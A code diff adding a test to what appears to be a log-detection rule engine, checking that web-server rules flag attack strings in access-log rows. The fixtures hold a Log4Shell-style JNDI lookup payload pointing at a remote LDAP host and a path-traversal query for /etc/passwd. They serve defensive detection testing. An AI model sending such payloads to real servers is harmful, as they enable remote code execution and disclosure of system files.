@@ -94,6 +94,21 @@ def test_rows_equal_the_reference(public: Public, events_file: str, hits_file: s
     assert {key for key in found if key not in windows} == set()
 
 
+@pytest.mark.corpora
+def test_an_access_log_meets_the_rules_for_web_servers_only(public: Public) -> None:
+    web = {
+        "cs-method": "GET",
+        "cs-uri-stem": "/",
+        "cs-uri-query": "q=${jndi:ldap://10.0.0.1/a}",
+        "sc-status": 200,
+    }
+    traversal = {**web, "cs-uri-query": "file=../../../../etc/passwd"}
+    sources = {one.key: one.source for one in public.rules.rules}
+    found = rows(public.rules, [web, traversal, {**web, "cs-uri-query": "q=shoes"}])
+    assert {sources[key].category for key in found} <= {"webserver", "proxy"}
+    assert {row for matched in found.values() for row in matched} == {0, 1}
+
+
 def listed(text: bytes) -> tuple[Reason, str]:
     rules = compiled(text)
     assert not rules.loaded
